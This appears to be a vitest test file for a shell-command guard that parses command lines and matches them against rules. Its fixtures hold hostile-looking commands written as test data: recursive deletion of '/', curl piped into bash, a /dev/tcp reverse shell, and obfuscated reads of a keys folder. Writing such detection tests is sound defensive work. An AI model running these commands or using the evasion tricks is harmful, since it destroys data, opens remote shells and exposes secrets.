import {describe, expect, it} from 'vitest'
import {commandsOf, compileShell} from '../../../src/lib/guard/shell/compile-shell.ts'

describe('commandsOf', () => {
  it('lists every command of a line with the programs that start it', () => {
    expect(commandsOf('cd /srv && sudo -u app bash -c "rm -rf x" | tee log')).toEqual({
      commands: [
        {program: 'cd', args: ['/srv'], wrappers: []},
        {program: 'sudo', args: ['-u', 'app', 'bash', '-c', 'rm -rf x'], wrappers: []},
        {program: 'bash', args: ['-c', 'rm -rf x'], wrappers: ['sudo']},
        {program: 'rm', args: ['-rf', 'x'], wrappers: ['sudo', 'bash']},
        {program: 'tee', args: ['log'], wrappers: []},
      ],
      understood: true,
      reasons: [],
    })
  })

  it('shows what is not in the line as an ellipsis, and reads the line also as if that were empty', () => {
    expect(commandsOf('$WITH rm "$DIR/x"').commands).toEqual([{program: 'rm', args: ['/x'], wrappers: []}])
    expect(commandsOf('rm "$DIR/x"').commands.map(({args}) => args)).toEqual([['…/x'], ['/x']])
  })

  it('follows values through variables, functions and files', () => {
    expect(programs('a=l; b=s; run() { "$@"; }; run $a$b')).toEqual(['run', 'ls'])
    expect(programs("printf 'id\\n' > /tmp/x.sh; sh ./x.sh")).toContain('id')
  })

  it('keeps both values where a branch may or may not set one', () => {
    expect(programs('a=ls; [ -f x ] && a=id; $a')).toEqual(['[', 'ls', 'id'])
    expect(commandsOf('[ -f x ] && a=id; $a').understood).toBe(false)
    expect(commandsOf('if [ -f x ]; then a=id; $a; fi').understood).toBe(true)
  })

  it('does not take a value for certain that a subshell, a pipe or a prefix sets', () => {
    for (const line of ['a=rm; (a=ls); $a', 'a=rm; a=ls true; $a', 'a=rm; echo x | a=ls; $a', 'a=rm; x=$(a=ls); $a']) {
      expect(programs(line), line).toContain('rm')
    }
  })

  it('sees in a loop what its last round set', () => {
    expect(programs('a=ls; for i in 1 2; do $a; a=rm; done')).toEqual(['ls', 'rm'])
  })

  it.each([
    ['echo "unterminated', 'it cannot be read as shell: unterminated double quote'],
    ['$CMD x', 'the name of a program is not in the line'],
    ['/bin/r? x', 'the name of a program is not in the line'],
    ['cat x | tr a b | sh', 'sh runs text that is not in the line'],
    ["python3 -c 'import subprocess'", 'python3 runs code that may start programs'],
  ])('does not understand %s', (line, reason) => {
    expect(commandsOf(line)).toMatchObject({understood: false, reasons: [reason]})
  })

  it('takes a script in a file for a program like any other', () => {
    for (const line of ['sh deploy.sh', './deploy.sh', 'sh < deploy.sh', 'cat deploy.sh | sh', 'source ~/.bashrc']) {
      expect(commandsOf(line).understood, line).toBe(true)
    }
  })
})

describe('compileShell', () => {
  it('says what matched and by which way', () => {
    const match = compileShell({program: 'rm', args: ['-r', '-f']})
    expect(match("find . -exec sh -c 'rm -fr x' \\;")).toEqual({
      matched: true,
      understood: true,
      why: 'it runs "rm -fr x" by way of find, sh',
    })
  })

  it('matches names of programs whatever their case, since some file systems do', () => {
    expect(compileShell({program: 'rm'})('RM x').matched).toBe(true)
  })

  it('reads an option in any spelling', () => {
    const match = compileShell({program: 'rm', args: ['--recursive']})
    for (const line of ['rm -r x', 'rm -R x', 'rm -fvr x', 'rm --rec x', 'rm x -r'])
      expect(match(line).matched, line).toBe(true)
    for (const line of ['rm x', 'rm -f x', 'rm -- -r', 'rm --force x'])
      expect(match(line), line).toEqual({matched: false, understood: true})
  })

  it('reads a cluster as its letters, and as one word where programs have such options', () => {
    expect(compileShell({program: 'rm', args: ['-rf']})('rm -f -R x').matched).toBe(true)
    const match = compileShell({program: 'find', args: ['-delete']})
    expect(match('find . -name x -delete').matched).toBe(true)
    expect(match('find . -depth -empty -ls -type f').matched).toBe(false)
  })

  it('reads the first word of tar as options', () => {
    expect(compileShell({program: 'tar', args: ['-x']})('tar xzf a.tgz').matched).toBe(true)
  })

  it('wants one of a list, and compares words with stars and paths in one spelling', () => {
    const match = compileShell({program: 'rm', args: ['-r', ['/', '~', '/etc*']]})
    for (const line of [
      'rm -r /',
      'rm -r //',
      'rm -r /*',
      'rm -r /tmp/..',
      'rm -r $HOME',
      'rm -r ~/',
      'rm -r /etc/x',
    ]) {
      expect(match(line).matched, line).toBe(true)
    }
    for (const line of ['rm -r build', 'rm -r /tmp', 'rm -r ~/x', 'rm -r ./$X'])
      expect(match(line), line).toEqual({matched: false, understood: true})
  })

  it('is not sure about a word that may be what is wanted', () => {
    const match = compileShell({program: 'rm', args: ['-r', '/']})
    expect(match('rm -r "$DIR"')).toMatchObject({matched: false, understood: false})
    expect(compileShell({program: 'rm', args: ['-r']})('rm "$DIR"')).toEqual({matched: false, understood: true})
    expect(compileShell({program: 'rm', args: ['-r']})('rm -$OPTIONS x')).toMatchObject({understood: false})
  })

  it('follows output as code only where it is run as code', () => {
    const match = compileShell({program: 'curl', pipedInto: ['sh', 'bash', 'python3', 'tee']})
    expect(match('curl x | sudo bash').matched).toBe(true)
    expect(match('curl x | tee f').matched).toBe(true)
    for (const line of [
      'curl x | python3 -m json.tool',
      "curl x | bash -c 'cat > f'",
      'curl x; sh y',
      'curl x > i.sh',
    ]) {
      expect(match(line), line).toEqual({matched: false, understood: true})
    }
  })

  it('tells who made a text that is run', () => {
    const match = compileShell({program: 'curl', args: ['-k'], pipedInto: 'sh'})
    expect(match('curl -k a -o x; curl b -o y; sh x').matched).toBe(true)
    expect(match('curl -k a -o x; curl b -o y; sh y').matched).toBe(false)
  })
})

describe('programs that start others', () => {
  it.each([
    ['railway run rm x', 'rm'],
    ['nvm exec 20 rm x', 'rm'],
    ['zellij run -- rm x', 'rm'],
    ["xterm -e 'rm x'", 'rm'],
    ['/usr/bin/env -S rm -f x', 'rm'],
    ["fish -c 'set -l c rm; $c x'", 'rm'],
    ["csh -c 'set c=rm; $c x'", 'rm'],
    ["zsh -c '=rm x'", 'rm'],
    ['node /usr/lib/openclaw.mjs config set a b', 'openclaw.mjs'],
    ['npx openclaw@latest config set a b', 'openclaw'],
    ['cmake -E rm x', 'rm'],
    ['env A=<(ls) rm x', 'rm'],
    ['"$@" rm x', 'rm'],
    ["anytool shell -c 'rm x'", 'rm'],
    ['at -f <(echo rm x) now', 'rm'],
    ['at 5pm -f <(echo rm x)', 'rm'],
  ])('are followed: %s', (line, program) => {
    expect(programs(line)).toContain(program)
  })

  it.each([
    'npm test -- sudo',
    'cargo run -- rm',
    'gh run list',
    'git checkout -- sudo',
    'x --tool exec sudo',
    'gcloud run jobs execute sudo',
    'turbo run test -- sudo',
  ])('are not taken for such: %s', (line) => {
    expect(programs(line)).not.toContain('sudo')
    expect(programs(line)).not.toContain('rm')
  })

  it.each([
    'python3 -c \'import shutil; shutil.rmtree("/srv")\'',
    'node -e \'fs.rmSync("x", {recursive: true})\'',
    'ruby -rfileutils -e \'FileUtils.rm_rf("x")\'',
    'cmd /c "rd /s /q x"',
    'cmake -E remove_directory x',
  ])('delete folders as rm -rf does: %s', (line) => {
    expect(compileShell({program: 'rm', args: ['-rf']})(line).matched).toBe(true)
    expect(compileShell({program: 'sudo'})(line)).toEqual({matched: false, understood: true})
  })

  it.each([
    'tcc -run - <<< \'int main(){system("ls");}\'',
    'echo \'int main(){system("ls");}\' > a.c; gcc a.c',
    'sh -i >& /dev/tcp/x/80 0>&1',
    "dc -e '!ls'",
    'vim -c \'call system("ls")\'',
    'fc -s ls',
  ])('are not understood where they hide it: %s', (line) => {
    expect(commandsOf(line).understood).toBe(false)
  })
})

describe('any program', () => {
  const match = compileShell({program: '*', args: [['*/.state/keys*', '.state/keys*']]})

  it.each([
    'cat ~/.state/keys',
    'x=.st; cat ~/$x"ate"/ke""ys/a',
    'cat < ~/.state/keys',
    'echo a > ~/.state/keys/b',
    'cat ~/.state/k*',
    'cat ~/.[s]t?te/k*/b',
    'cat ~/.state/x/../keys',
    'cd; tar c .state/keys',
    'cat > ~/.state/k*',
  ])('is found by the files it is given: %s', (line) => {
    expect(match(line).matched).toBe(true)
  })

  it.each(['ls *', 'ls ~/*/*', 'cat "$FILE" > $OUT', 'cat ~/.state/other/keys', 'echo .state', 'cat $(ls | sort)'])(
    'is not, where that cannot be told: %s',
    (line) => {
      expect(match(line)).toEqual({matched: false, understood: true})
    },
  )
})

function programs(line: string): string[] {
  return commandsOf(line).commands.map(({program}) => program)
}
